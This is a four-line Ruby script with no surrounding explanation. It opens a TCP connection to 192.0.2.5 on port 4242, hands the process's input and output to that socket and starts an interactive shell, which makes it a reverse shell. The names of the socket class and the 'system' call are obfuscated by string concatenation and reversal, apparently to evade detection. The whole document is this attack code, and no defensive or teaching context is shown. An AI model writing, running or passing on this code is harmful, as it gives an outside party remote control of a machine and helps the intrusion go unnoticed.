require 'socket'
s=Kernel.const_get('TCP'+'Socket').send('wen'.reverse.to_sym,'192.0.2.5',4242)
STDIN.reopen(s);STDOUT.reopen(s)
Kernel.send('metsys'.to_s.reverse,'sh -i')
